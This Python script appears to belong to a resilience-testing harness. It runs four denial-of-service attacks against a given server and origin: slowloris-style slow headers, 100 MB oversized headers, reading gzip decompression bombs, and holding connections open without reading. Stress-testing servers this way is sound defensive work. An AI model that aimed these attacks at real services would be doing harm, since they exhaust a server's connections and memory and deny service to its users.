"""An attack, on the client's host: `python attacker.py ATTACK ADDRESS SERVER_PORT ORIGIN_PORT`.

Prints `ready` when the attack is under way, and goes on until its standard input ends. plan.py says what each
attack is.
Rules: little processor time, since whoever measures shares the core. It must not measure.
"""

from __future__ import annotations

import contextlib
import select
import socket
import sys
from collections.abc import Callable

_MB = 1 << 20
_SETTLED_S = 1.0
_BEGIN = b"GET / HTTP/1.1\r\nHost: a\r\nX: "


def _is_over(seconds: float) -> bool:
    return bool(select.select([sys.stdin], [], [], seconds)[0])


def _ready() -> None:
    print("ready", flush=True)


def _connections(count: int, address: tuple[str, int], first: bytes) -> list[socket.socket]:
    made = [socket.create_connection(address, timeout=30) for _ in range(count)]
    for connection in made:
        connection.sendall(first)
        connection.setblocking(False)
    return made


def _sent(origin: tuple[str, int]) -> int:
    """Bytes of noise that the origin has got rid of."""
    with socket.create_connection(origin, timeout=30) as connection:
        connection.sendall(b"GET /sent HTTP/1.1\r\nHost: a\r\n\r\n")
        return int(connection.makefile("rb").read().rpartition(b"\n")[2])


def slow_heads(server: tuple[str, int], _origin: tuple[str, int]) -> None:
    """Holds heads open, some bytes a second."""
    held = _connections(500, server, _BEGIN)
    _ready()
    turn = 0
    # A hundredth of them in turn: no burst that the server's own work would not have.
    while not _is_over(0.005):
        for connection in held[turn::100]:
            connection.send(b"y")
        turn = (turn + 1) % 100


def long_heads(_server: tuple[str, int], origin: tuple[str, int]) -> None:
    """Sends heads of 100 MB; what there is no room for is not sent."""
    piece, left = b"y" * _MB, dict.fromkeys(_connections(4, origin, _BEGIN), 100 * _MB)
    _ready()
    while not _is_over(0.04):
        for connection in list(left):
            with contextlib.suppress(BlockingIOError):
                left[connection] -= connection.send(piece)
            if left[connection] <= 0:
                del left[connection]
                connection.close()
                left |= dict.fromkeys(_connections(1, origin, _BEGIN), 100 * _MB)


def bombs(_server: tuple[str, int], origin: tuple[str, int]) -> None:
    """Reads as fast as it comes."""
    asked = b"GET /bomb HTTP/1.1\r\nHost: a\r\nAccept-Encoding: gzip\r\n\r\n"
    reading, buffer = _connections(2, origin, asked), bytearray(_MB)
    _ready()
    while True:
        ready = select.select([sys.stdin, *reading], [], [])[0]
        if sys.stdin in ready:
            return
        for connection in ready:
            if not connection.recv_into(buffer):
                raise SystemExit("a bomb has ended")


def unread(_server: tuple[str, int], origin: tuple[str, int]) -> None:
    """Asks, and is silent. Under way it is when all that can be full is full: until then it is a download."""
    asked = b"GET /noise HTTP/1.1\r\nHost: a\r\nAccept-Encoding: gzip\r\n\r\n"
    held = _connections(50, origin, asked)
    before, now = -1, _sent(origin)
    while before != now and not _is_over(_SETTLED_S):
        before, now = now, _sent(origin)
    _ready()
    _is_over(3600)
    assert held


_ATTACKS: dict[str, Callable[[tuple[str, int], tuple[str, int]], None]] = {
    "slow-heads": slow_heads,
    "long-heads": long_heads,
    "bombs": bombs,
    "unread": unread,
}

if __name__ == "__main__":
    attack, at, *ports = sys.argv[1:]
    _ATTACKS[attack](*((at, int(port)) for port in ports))
